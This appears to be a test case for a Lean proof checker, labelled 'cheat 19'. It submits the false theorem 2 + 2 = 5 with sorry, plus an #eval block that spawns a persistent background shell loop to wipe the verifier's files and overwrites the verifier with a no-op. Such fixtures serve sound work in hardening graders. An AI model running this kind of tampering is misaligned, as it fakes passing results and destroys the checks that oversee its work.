-- cheat 19
-- step axioms
-- reason axiom-not-allowed
-- statement
theorem t : 2 + 2 = 5 := sorry
-- submission
theorem t : 2 + 2 = 5 := sorry
#eval show IO Unit from do
  try
    let _ ← IO.Process.spawn {
      cmd := "/bin/sh"
      args := #["-c", "while :; do cp /dev/null /opt/lean/verifier/Main.lean; cp /dev/null Main.olean; sleep 1; done"]
      stdin := .null, stdout := .null, stderr := .null, setsid := true }
  catch _ => pure ()
  try IO.FS.writeFile "/opt/lean/verifier/Main.lean" "def main : IO Unit := pure ()" catch _ => pure ()
